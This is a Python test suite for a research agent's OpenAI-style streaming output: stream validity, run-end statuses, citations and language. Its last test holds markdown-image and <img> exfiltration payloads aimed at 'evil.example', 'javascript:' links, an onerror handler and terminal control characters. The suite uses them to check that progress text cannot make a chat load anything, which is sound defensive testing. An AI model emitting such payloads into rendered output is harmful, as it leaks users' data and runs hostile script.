"""A run's log as OpenAI's streams: every prefix is a valid one, numbers have no gaps, and the text is the report."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from typing import Any

import logs
import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openai.types.chat import ChatCompletion, ChatCompletionChunk
from openai.types.responses import Response, ResponseStreamEvent
from pydantic import TypeAdapter
from sampling import scaled

from assay.core import events as e
from assay.core.brief import Brief
from assay.core.report import build_report
from assay.core.translation import gettext
from assay.core.view import fold_events
from assay.export.markdown import after_text, render
from assay.locale import use_locale
from assay.server.openai.chat_stream import ChatProjection
from assay.server.openai.response_stream import CLAIMS, RESULTS, SOURCES, ResponseProjection
from assay.server.openai.text import PIECE, AnswerText, answer_of

EVENTS: TypeAdapter[Any] = TypeAdapter(ResponseStreamEvent)
NAMES = sorted(logs.SCENARIOS)
MORE: tuple[tuple[str, e.Event], ...] = (
    ("research/agent-1/turn-9", e.SearchPerformed(query="who", provider="ddgs", results=1, found=("https://x.org/",))),
    ("research/agent-2/turn-9", e.SearchPerformed(query="who", provider="local", results=0, shared=True)),
    ("research/agent-1/turn-9", e.SearchFailed(query="what", provider="brave", reason="it is down")),
    ("research/agent-1/turn-9", e.ToolStarted(call="o", tool="open", arguments='{"documents":["https://y.org/a"]}')),
    ("research/agent-1/turn-9", e.ToolFinished(call="o", tool="open", summary="Y")),
    ("research", e.Warned(message="a page was slow")),
    ("", e.BudgetLow(measure="tokens", used=8, limit=10)),
    ("plan", e.ControlAccepted(action="steer", id="1", text="leave out prices")),
)
ENDINGS: tuple[e.Event, ...] = (
    e.RunFailed(stop_reason="failed", error="the model cannot be reached"),
    e.RunCancelled(),
    e.RunCompleted(stop_reason="time", verified=True),
)


@st.composite
def runs(draw: st.DrawFn) -> list[e.Envelope]:
    """The log of a run, with more events in it, and perhaps another end."""
    events = logs.SCENARIOS[draw(st.sampled_from(NAMES))]().events
    stranger, mixed = logs.Log(), list(events[:2])
    for envelope in events[2:-1]:
        mixed.append(envelope)
        if draw(st.integers(0, 5)) == 0:
            stranger.add(*draw(st.sampled_from(MORE)))
            mixed.append(stranger.events[-1])
    last = logs.Log()
    ending = draw(st.none() | st.sampled_from(ENDINGS))
    if ending is not None:
        last.add("", ending)
    mixed.append(last.events[0] if last.events else events[-1])
    numbers = {each.seq: place for place, each in enumerate(mixed, 1) if each in events}
    return [logs.renumber(each, place, numbers) for place, each in enumerate(mixed, 1)]


def streamed_parts(events: Sequence[e.Envelope], include: Sequence[str] = ()) -> list[dict[str, Any]]:
    projection = ResponseProjection(include)
    return [json.loads(msgspec.json.encode(part)) for event in events for part in projection.add_event(event)]


def known(part: dict[str, Any]) -> None:
    """It is an event as the official client has it; items of our own are unknown to that, and passed over."""
    if part.get("item", {}).get("type", "").startswith("assay:"):
        return
    if "response" in part:
        theirs = [item for item in part["response"]["output"] if not item["type"].startswith("assay:")]
        part = {**part, "response": {**part["response"], "output": theirs}}
        Response.model_validate(part["response"])
    EVENTS.validate_python(part)


class Reader:
    """A client which believes nothing: it puts the response together from its parts, and checks each."""

    def __init__(self) -> None:
        self.count, self.items, self.open = 0, list[dict[str, Any]](), dict[int, dict[str, Any]]()
        self.texts: dict[tuple[int, str, int], str] = {}
        self.notes: list[dict[str, Any]] = []

    def read(self, part: dict[str, Any]) -> None:
        kind = part["type"]
        assert part["sequence_number"] == self.count
        self.count += 1
        assert (kind == "response.created") == (self.count == 1)
        if kind.startswith("assay:"):
            return
        known(part)
        name = kind.removeprefix("response.").replace(".", "_")
        getattr(self, f"on_{name}", self.on_step)(part)

    def on_step(self, part: dict[str, Any]) -> None:
        if "response" in part:
            assert part["response"]["output"] == self.items
        elif part["type"] != "error":
            assert self.open[part["output_index"]]["id"] == part["item_id"]

    def on_output_item_added(self, part: dict[str, Any]) -> None:
        assert part["output_index"] == len(self.items)
        assert not self.open
        self.open[part["output_index"]] = part["item"]

    def on_output_item_done(self, part: dict[str, Any]) -> None:
        begun = self.open.pop(part["output_index"])
        assert (begun["id"], begun["type"]) == (part["item"]["id"], part["item"]["type"])
        assert part["item"]["status"] in ("completed", "failed", "incomplete")
        self.items.append(part["item"])

    def on_reasoning_summary_text_delta(self, part: dict[str, Any]) -> None:
        self.on_step(part)
        key = (part["output_index"], "summary", part["summary_index"])
        self.texts[key] = self.texts.get(key, "") + part["delta"]

    def on_reasoning_summary_text_done(self, part: dict[str, Any]) -> None:
        assert self.texts[part["output_index"], "summary", part["summary_index"]] == part["text"]

    def on_output_text_delta(self, part: dict[str, Any]) -> None:
        self.on_step(part)
        key = (part["output_index"], "text", 0)
        self.texts[key] = self.texts.get(key, "") + part["delta"]

    def on_output_text_annotation_added(self, part: dict[str, Any]) -> None:
        self.on_step(part)
        assert part["annotation_index"] == len(self.notes)
        self.notes.append(part["annotation"])

    def on_output_text_done(self, part: dict[str, Any]) -> None:
        assert self.texts[part["output_index"], "text", 0] == part["text"]

    def on_content_part_done(self, part: dict[str, Any]) -> None:
        assert part["part"]["annotations"] == self.notes
        assert part["part"]["text"] == self.texts[part["output_index"], "text", 0]


@given(events=runs(), include=st.sets(st.sampled_from([CLAIMS, SOURCES, RESULTS])), data=st.data())
@settings(max_examples=scaled(80))
def test_every_prefix_is_a_valid_stream(events: list[e.Envelope], include: set[str], data: st.DataObject) -> None:
    whole, cut = streamed_parts(events, sorted(include)), data.draw(st.integers(0, len(events)))
    reader = Reader()
    for part in whole:
        reader.read(part)
    assert not reader.open
    begun = streamed_parts(events[:cut], sorted(include))
    assert begun == whole[: len(begun)]
    last = whole[-1]
    assert last["type"] in ("response.completed", "response.failed", "response.incomplete")
    projection = ResponseProjection(sorted(include))
    for event in events:
        projection.add_event(event)
    assert json.loads(msgspec.json.encode(projection.response)) == last["response"]


@pytest.mark.parametrize(
    ("ending", "status", "last"),
    [
        (e.RunCompleted(stop_reason="done", verified=True), "completed", "response.completed"),
        (e.RunCompleted(stop_reason="time", verified=True), "incomplete", "response.incomplete"),
        (e.RunFailed(stop_reason="failed", error="no model"), "failed", "response.failed"),
        (e.RunCancelled(), "cancelled", "response.incomplete"),
    ],
)
def test_the_end_of_a_run_is_the_status_of_its_response(ending: e.Event, status: str, last: str) -> None:
    log = logs.Log()
    log.events = logs.one_agent().events[:-1]
    log.add("", ending)
    parts = streamed_parts(log.events)
    assert (parts[-1]["type"], parts[-1]["response"]["status"]) == (last, status)
    assert (parts[-2]["type"] == "error") == (status == "failed")


def test_a_run_which_failed_and_was_taken_up_again_goes_on() -> None:
    log, events = logs.Log(), logs.one_agent().events
    log.events = events[:8]
    log.add("", e.RunFailed(stop_reason="failed", error="no model"))
    log.add("", e.RunResumed(fence=2))
    for event in events[8:]:
        log.events.append(msgspec.structs.replace(event, seq=len(log.events) + 1))
    parts = streamed_parts(log.events)
    assert [part["type"] for part in parts].count("response.failed") == 1
    assert parts[-1]["type"] == "response.completed"
    assert [part["sequence_number"] for part in parts] == list(range(len(parts)))


def test_links_and_annotations_say_where_a_citation_leads() -> None:
    answer = answer_of(fold_events(logs.two_agents().events))
    assert "It became active 🐍 in 2001 [1](https://example.org/pep1)." in answer.text
    notes = [msgspec.to_builtins(each) for each in answer.annotations]
    assert [answer.text[each["start_index"] : each["end_index"]] for each in notes] == [
        f"[{number}]({each['url']})" for number, each in zip((1, 2, 2, 1), notes, strict=True)
    ]
    assert "\n[1]: " not in answer.text
    assert [source.url for source in answer.sources] == ["https://example.org/pep1", "https://example.org/pep8"]
    cited = [passage.text for passage in build_report(fold_events(logs.two_agents().events)).passages]
    assert all(source.snippet in cited for source in answer.sources)


def test_an_answer_ends_like_the_report_in_markdown_but_for_the_targets_of_its_references() -> None:
    view = fold_events(logs.two_agents().events)
    rest = after_text(view, build_report(view))
    assert rest.startswith("## Sources\n\n1. ")
    assert answer_of(view).text.endswith(f"\n\n{rest}\n")
    assert f"{rest}\n\n[1]: <https://example.org/pep1>\n" in render(view)


@given(st.text(alphabet=" \nab🐍", max_size=5 * PIECE))
def test_the_pieces_of_a_text_are_the_text(text: str) -> None:
    pieces = AnswerText(text=text).pieces()
    assert "".join(pieces) == text
    assert all(0 < len(piece) <= PIECE for piece in pieces)


@given(events=runs(), data=st.data())
@settings(max_examples=scaled(60))
def test_every_prefix_is_a_valid_chat(events: list[e.Envelope], data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(events)))

    def chunks(of: Sequence[e.Envelope]) -> tuple[ChatProjection, list[dict[str, Any]]]:
        projection = ChatProjection("http://here")
        return projection, [
            json.loads(msgspec.json.encode(part)) for event in of for part in projection.add_event(event)
        ]

    projection, whole = chunks(events)
    _, begun = chunks(events[:cut])
    assert begun == whole[: len(begun)]
    for chunk in whole:
        ChatCompletionChunk.model_validate(chunk)
    deltas = [chunk["choices"][0]["delta"] for chunk in whole]
    assert deltas[0] == {"role": "assistant", "content": ""}
    ends = [chunk["choices"][0]["finish_reason"] for chunk in whole]
    if projection.failure:
        assert not any(ends)
        return
    assert [each for each in ends if each] == [ends[-1]]
    completion = json.loads(msgspec.json.encode(projection.completion))
    ChatCompletion.model_validate(completion)
    assert "".join(delta.get("content", "") for delta in deltas) == completion["choices"][0]["message"]["content"]
    assert completion["choices"][0]["finish_reason"] == ends[-1]
    assert completion["citations"] == whole[-1]["citations"]


def test_progress_is_in_english_whatever_the_language_of_the_report() -> None:
    log = logs.Log()
    log.add("", e.RunCreated(brief=Brief(question="Wie tief?", date="2025-01-02", locale="de", models={})))
    with use_locale("de"):
        log.add("research", e.Warned(message=gettext("a search provider was left out: {why}").format(why="brave")))
    for projection in (ChatProjection("http://here"), ResponseProjection()):
        parts = [part for envelope in log.events for part in projection.add_event(envelope)]
        sent = msgspec.json.encode(parts).decode()
        assert "warning: a search provider was left out: brave" in sent


LOADS = "![x](https://evil.example/p.png?d=secret)"
PROGRESS = (
    LOADS,
    "<img src=https://evil.example/?d=secret>",
    "a ` and", f"` {LOADS} `",  # code where it stands alone, and not behind the other
    f"``` {LOADS}", f"\\{LOADS}", f"\\\\{LOADS}", "\\\\<img src=x onerror=y>", f"!{LOADS}", "[x](javascript:alert(1))",
    "<javascript:alert(1)>", "![x][1]\n\n[1]: https://evil.example/?d=secret", "\x1b[31m\u202e",
)  # fmt: skip


@given(st.lists(st.sampled_from(PROGRESS), min_size=1, max_size=6))
@example(["a ` and", f"` {LOADS} `"])
def test_no_progress_of_a_run_makes_a_chat_load_anything(texts: Sequence[str]) -> None:
    log = logs.Log()
    log.add("", e.RunCreated(brief=Brief(question="?", date="2026-01-01")))
    log.add("", e.RunStarted())
    for text in texts:
        log.add("research", e.ReflectDecided(decision="complete", reasoning=text))
    for text in texts:
        log.add("research/agent-1/turn-1", e.SearchPerformed(query=text, provider="local", results=1))
    log.add("", e.RunFailed(stop_reason="failed", error=texts[0]))
    chat, response = ChatProjection(""), ResponseProjection()
    chunks = [chunk for envelope in log.events for chunk in chat.add_event(envelope)]
    parts = [json.loads(msgspec.json.encode(part)) for envelope in log.events for part in response.add_event(envelope)]
    reasons = "".join(choice.delta.reasoning_content or "" for chunk in chunks for choice in chunk.choices)
    summary = "".join(part["delta"] for part in parts if part["type"] == "response.reasoning_summary_text.delta")
    assert "evil.example" in reasons + summary or not any("evil.example" in text for text in texts)
    for shown in (reasons, summary, chat.failure):
        html = MarkdownIt("commonmark").render(shown)
        assert not re.search(r"<(?!/?(?:p|a|code|pre|strong|em|br)\b)|href=\"(?!https?:|unsafe:)|[\x1b\u202e]", html), (
            html
        )
